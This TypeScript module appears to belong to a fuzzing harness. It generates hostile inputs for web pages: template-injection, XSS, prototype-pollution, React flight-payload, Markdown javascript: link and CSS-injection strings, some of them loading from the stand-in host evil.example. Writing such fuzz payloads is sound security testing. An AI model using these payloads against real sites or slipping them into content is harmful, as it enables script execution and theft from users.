import type { Dice } from "../fuzz/dice";

/** Text that template languages, Markdown, style sheets or JSON in a page would take for theirs. */
const FORMS = [
  (call: string) => `{{constructor.constructor("${call.replaceAll('"', "'")}")()}}`,
  (call: string) => `{{ ${call} }}{% ${call} %}`,
  (call: string) => `\${${call}}#{${call}}@{${call}}`,
  (call: string) => `<%= ${call} %><? ${call} ?>`,
  (call: string) => `';${call};//`,
  (call: string) => `";${call};//`,
  (call: string) => `\`;${call};//`,
  (call: string) => `\\';${call};//\\"`,
  (call: string) => `*/${call}/*`,
  (call: string) => `\u2028${call}\u2029`,
  (call: string) => `]}</script><script>${call}</script>`,
  (call: string) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}}`,
  (call: string) => `["$","script",null,{"children":"${call.replaceAll('"', "'")}"}]`,
  (call: string) => `1:I["x"]\n0:["$","img",null,{"src":"x","onError":"${call.replaceAll('"', "'")}"}]\n`,
  (call: string) => `[x](javascript:${call})`,
  (call: string) => `![x](x"onerror="${call})`,
  (call: string) => `[x]: javascript:${call}\n\n<${call}>`,
  (call: string) => `| a |\n|---|\n# ${call}\n\`\`\`html\n<script>${call}</script>\n\`\`\``,
  (call: string) => `}</style><style>*{background:url("https://evil.example/${call}")}`,
  (call: string) => `@import "https://evil.example/x.css?${call}";`,
  (call: string) => `x;background:url(javascript:${call});position:fixed;inset:0;z-index:9999`,
  (call: string) => `red" onmouseover="${call}" style="position:fixed;inset:0`,
] as const;

export function hostileTemplate({ pick }: Dice, call: string): string {
  return pick(FORMS)(call);
}
